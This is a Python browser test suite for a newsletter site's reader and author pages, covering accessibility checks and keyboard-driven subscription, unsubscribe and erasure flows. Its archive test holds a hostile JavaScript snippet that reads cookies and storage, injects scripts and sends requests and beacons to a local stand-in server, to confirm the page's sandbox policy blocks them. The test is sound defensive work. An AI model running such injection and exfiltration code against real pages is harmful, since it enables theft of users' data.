"""The pages as a reader and the author meet them. Each test is a sentence; the first fault ends the run."""

import base64
import contextlib
import http.server
import os
import pathlib
import threading
import time

from driver import ENTER, TAB, browser, wait_for
from world import SLUG, world

# What every page must be, whatever its width and colours. Gives a list of faults.
LOOK = r"""
const faults = [];
const root = document.documentElement;
// Not innerWidth: a phone zooms out until what is too wide fits.
if (root.scrollWidth > arguments[1])
  faults.push(`${root.scrollWidth} px wide on a screen of ${arguments[1]}`);
if (!root.lang) faults.push('no language');
if (!document.title) faults.push('no title');
if (!document.querySelector('meta[name=viewport]')) faults.push('no viewport');
if (document.querySelectorAll('h1').length !== 1) faults.push('not one h1');
for (const field of document.querySelectorAll('input, select, textarea'))
  if (field.type !== 'hidden' && field.type !== 'submit' && !field.labels.length)
    faults.push(`no label for ${field.name}`);
for (const image of document.images)
  if (!image.hasAttribute('alt')) faults.push(`no alt for ${image.src}`);
if ([...document.scripts].some((s) => s.getAttribute('src') !== '/live.js')) faults.push('a script');

const parse = (text) => {
  const [r, g, b, a = 1] = text.match(/[\d.]+/g).map(Number);
  return { r, g, b, a };
};
const light = ({ r, g, b }) => {
  const part = (v) => ((v /= 255) <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4);
  return 0.2126 * part(r) + 0.7152 * part(g) + 0.0722 * part(b);
};
const ground = (element) => {
  for (let e = element; e; e = e.parentElement) {
    const color = parse(getComputedStyle(e).backgroundColor);
    if (color.a > 0.99) return color;
  }
  return arguments[0] === 'dark' ? { r: 18, g: 18, b: 18 } : { r: 255, g: 255, b: 255 };
};
const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
while (walker.nextNode()) {
  const element = walker.currentNode.parentElement;
  const text = walker.currentNode.data.trim();
  if (!text || element.closest('svg, style, title') || !element.checkVisibility()) continue;
  const box = element.getBoundingClientRect();
  if (box.right <= 0 || box.width <= 1) continue;
  const [a, b] = [light(parse(getComputedStyle(element).color)), light(ground(element))];
  const contrast = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
  if (contrast < 4.5) faults.push(`contrast ${contrast.toFixed(1)} of "${text.slice(0, 40)}"`);
}
return { faults, dark: light(ground(document.body)) < 0.2 };
"""

# The focused element can be seen to be focused.
FOCUS = """
const e = document.activeElement;
const style = getComputedStyle(e);
return [e.tagName.toLowerCase(), e.name || '', (e.value || e.innerText || '').trim(),
  style.outlineStyle !== 'none' || style.boxShadow !== 'none'];
"""

SHOTS = pathlib.Path(os.environ.get("PRESSRUN_TEST_OUT", "target/tests")) / "pages"


def looks_right(chromium, name, url):
    """At every width, in both schemes, with scripts switched off."""
    for scheme in ("light", "dark"):
        chromium.scheme(scheme)
        for width in (320, 375, 1280):
            chromium.width(width)
            chromium.open(url)
            seen = chromium.run(LOOK, scheme, width)
            shot = SHOTS / f"{name}-{scheme}-{width}.png"
            shot.write_bytes(base64.b64decode(chromium.screenshot()))
            assert not seen["faults"], f"{name}, {scheme}, {width} px: {seen['faults']}"
            assert seen["dark"] == (scheme == "dark"), f"{name} is not {scheme}"
    chromium.width(375)


def looks_right_here(chromium, name):
    """As `looks_right`, of a page that answers a form and has no address of its own."""
    for scheme in ("light", "dark"):
        chromium.scheme(scheme)
        for width in (320, 375, 1280):
            chromium.width(width)
            seen = chromium.run(LOOK, scheme, width)
            shot = SHOTS / f"{name}-{scheme}-{width}.png"
            shot.write_bytes(base64.b64decode(chromium.screenshot()))
            assert not seen["faults"], f"{name}, {scheme}, {width} px: {seen['faults']}"
    chromium.scheme("light")
    chromium.width(375)


def tab_to(chromium, wanted, limit=30):
    """Presses Tab until `wanted(tag, name, text)` has the focus, which must be visible all the way."""
    for _ in range(limit):
        chromium.keys(TAB)
        tag, name, text, visible = chromium.run(FOCUS)
        assert tag == "body" or visible, f"the focus on {tag} `{name or text}` cannot be seen"
        if wanted(tag, name, text):
            return
    raise AssertionError("the keyboard does not get there")


def press(chromium, *words):
    """Tabs to the button whose text has one of `words`, and presses Enter."""
    before = chromium.run("return performance.timeOrigin")
    button = lambda tag, _, text: tag in ("button", "input") and any(w in text.lower() for w in words)
    tab_to(chromium, button)
    chromium.keys(ENTER)
    loaded = "return performance.timeOrigin !== arguments[0] && document.readyState === 'complete'"
    wait_for("the next page", lambda: chromium.run(loaded, before))


def a_page_that_looks_wrong_is_found(it, chromium):
    chromium.scheme("light")
    chromium.width(375)
    chromium.open(
        "data:text/html,<h2>None</h2><input name=lonely><p style='color:%23ccc'>pale</p>"
        "<div style='width:900px'>wide</div><img src='data:,'><script>1</script>"
    )
    faults = " / ".join(chromium.run(LOOK, "light", 375)["faults"])
    wrong = ["px wide", "language", "title", "viewport", "h1", "lonely", "pale", "alt", "script"]
    missed = [word for word in wrong if word not in faults]
    assert not missed, f"{missed} not found among {faults}"


def a_reader_joins_by_keyboard_and_confirms_by_mail(it, chromium):
    address = "newcomer@example.net"
    looks_right(chromium, "subscribe", it.site + "/")
    chromium.open(it.site + "/")
    time.sleep(0.2)  # longer than the youngest form that is believed
    tab_to(chromium, lambda tag, name, _: tag == "input" and "mail" in name)
    chromium.keys(address)
    press(chromium, "subscribe", "join", "sign up")
    answer = chromium.run(LOOK, "light", 375)
    assert not answer["faults"], answer["faults"]
    assert it.status(address) == "pending"

    mail = it.mail_to(address)
    assert mail["List-Unsubscribe"] is None, "a list that was not joined yet"
    confirm = it.link(mail, "/confirm/")
    looks_right(chromium, "confirm", confirm)
    assert it.status(address) == "pending", "looking at the page confirmed"
    chromium.open(confirm)
    press(chromium, "confirm", "yes")
    assert it.status(address) == "confirmed"


def a_reader_leaves_with_one_button(it, chromium):
    address = "leaver@example.org"
    mail = it.mail_to(address)
    url = str(mail["List-Unsubscribe"]).strip("<>")
    assert url == it.link(mail, "/u/"), "header and text part name one page"
    looks_right(chromium, "unsubscribe", url)
    assert it.status(address) == "confirmed", "looking at the page unsubscribed"
    chromium.open(url)
    press(chromium, "unsubscribe", "leave")
    assert it.status(address) == "unsubscribed"
    assert it.status("other@example.org") == "confirmed"
    # A mistake: the very page takes it back.
    press(chromium, "return")
    assert it.status(address) == "confirmed"
    chromium.open(url)
    press(chromium, "leave")
    assert it.status(address) == "unsubscribed"


def a_reader_pauses_chooses_and_is_erased_by_keyboard(it, chromium):
    address = "other@example.org"
    url = it.link(it.mail_to(address), "/preferences/")
    looks_right(chromium, "preferences", url)
    assert it.status(address) == "confirmed", "looking at the page changed something"
    chromium.open(url)
    press(chromium, "tracking-off")
    look = chromium.run(LOOK, "light", 375)
    assert not look["faults"], look["faults"]
    chromium.run(
        "const d = new Date(Date.now() + 9e8); document.getElementById('until').value ="
        " d.toISOString().slice(0, 10)"
    )
    press(chromium, "pause")
    assert it.status(address) == "paused"
    press(chromium, "unpause")
    assert it.status(address) == "confirmed"
    press(chromium, "export")
    link = it.link(it.mail_to(address, "Your data"), "/confirm/")
    looks_right(chromium, "prove-data", link)
    chromium.open(url)
    press(chromium, "erase")
    look = chromium.run(LOOK, "light", 375)
    assert not look["faults"], look["faults"]
    press(chromium, "erase-mail")
    look = chromium.run(LOOK, "light", 375)
    assert not look["faults"], look["faults"]
    assert it.status(address) == "confirmed", "her page alone erased her"
    link = it.link(it.mail_to(address, "Erase everything"), "/confirm/")
    looks_right(chromium, "prove-erase", link)
    chromium.open(link)
    press(chromium, "erase")
    assert it.status(address) is None


def a_form_for_other_sites_is_shown(it, chromium):
    looks_right(chromium, "embed", it.site + "/embed")


def a_wrong_link_says_nothing_but_how_to_go_on(it, chromium):
    looks_right(chromium, "nothing", it.site + "/u/AAAAAAAAAAAAAAAAAAAA")


def the_author_sees_the_run_and_its_numbers(it, chromium):
    chromium.open(it.run("admin", "login-link").strip())
    press(chromium, "log in")
    looks_right(chromium, "issues", it.pages + "/issues")
    chromium.open(it.pages + "/issues")
    link = chromium.run("return [...document.links].map((a) => a.href).find((h) => h.includes('/runs/'))")
    assert link, "no run to look at"
    looks_right(chromium, "run", link)
    chromium.open(link)
    text = chromium.text()
    stats = it.stats()
    assert SLUG in text or "page tests" in text, text
    shown = {"recipients": "recipients", "sent": "sent", "departed": "unsubscribes"}
    for name, label in shown.items():
        assert stats[name] > 0, f"nothing to compare: {stats}"
        assert f"{label}\n{stats[name]}" in text.lower(), f"`stats` says {stats[name]} {name}: {text}"


def an_archived_issue_is_read_and_runs_nothing(it, chromium):
    looks_right(chromium, "archive", it.site + "/archive")
    chromium.open(it.site + "/archive")
    tab_to(chromium, lambda tag, _, text: tag == "a" and "page tests" in text)
    chromium.keys(ENTER)
    page = it.site + "/archive/" + SLUG
    wait_for("the issue", lambda: chromium.url() == page)
    for scheme in ("light", "dark"):
        chromium.scheme(scheme)
        for width in (375, 1280):
            chromium.width(width)
            chromium.open(page)
            shot = SHOTS / f"archived-{scheme}-{width}.png"
            shot.write_bytes(base64.b64decode(chromium.screenshot()))
            wide = chromium.run("return document.documentElement.scrollWidth")
            assert wide <= width, f"{wide} px wide on a screen of {width}"
    links = chromium.run("return [...document.links].map((a) => a.href)")
    assert "https://example.com/first" in links, links
    assert not [link for link in links if "/c/" in link or "/u/" in link], links
    chromium.scheme("light")
    chromium.width(375)
    # What a hostile issue would try: each is refused by the page's own policy, not by the test's browser.
    hostile = """
        const told = {}, host = arguments[0];
        try { told.cookie = 'read ' + document.cookie; } catch (e) { told.cookie = e.name; }
        try { told.storage = 'read ' + localStorage.length; } catch (e) { told.storage = e.name; }
        told.origin = self.origin;
        const put = (name, more) => {
            const element = Object.assign(document.createElement(name), more);
            document.body.append(element);
            return element;
        };
        put('script', { text: 'window.ran = true' });
        told.ran = window.ran === true;
        put('script', { src: host + 'script' });
        put('iframe', { src: host + 'frame' });
        put('img', { src: host + 'image', alt: '' });
        fetch(host + 'fetch', { mode: 'no-cors' });
        navigator.sendBeacon(host + 'beacon', 'x');
        put('form', { action: host + 'form', method: 'post' }).submit();
        return told;
    """
    chromium.scripts(True)
    with counting() as (host, asked):
        chromium.open(host + "control")
        assert "control" in asked, "the counting server counts nothing"
        asked.clear()
        chromium.open(page)
        told = chromium.run(hostile, host)
        time.sleep(1)
        assert not asked, f"the page reached {asked}"
        assert chromium.url() == page, "the form was sent"
    chromium.scripts(False)
    expected = {"cookie": "SecurityError", "storage": "SecurityError", "origin": "null", "ran": False}
    assert told == expected, told


@contextlib.contextmanager
def counting():
    """A server of another origin that notes the last part of each path it is asked for."""
    asked = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path.rsplit("/", 1)[-1])
            self.send_response(204)
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_):
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}/", asked
    finally:
        server.shutdown()
        server.server_close()


TESTS = [
    a_page_that_looks_wrong_is_found,
    a_reader_joins_by_keyboard_and_confirms_by_mail,
    a_reader_leaves_with_one_button,
    a_form_for_other_sites_is_shown,
    a_wrong_link_says_nothing_but_how_to_go_on,
    the_author_sees_the_run_and_its_numbers,
    an_archived_issue_is_read_and_runs_nothing,
    a_reader_pauses_chooses_and_is_erased_by_keyboard,
]


def main():
    SHOTS.mkdir(parents=True, exist_ok=True)
    with world() as it, browser() as chromium:
        chromium.scripts(False)
        for test in TESTS:
            test(it, chromium)
            print(f"test pages::{test.__name__} ... ok")
    print(f"test result: ok. {len(TESTS)} passed; 0 failed; 0 ignored; screenshots in {SHOTS}")


if __name__ == "__main__":
    main()
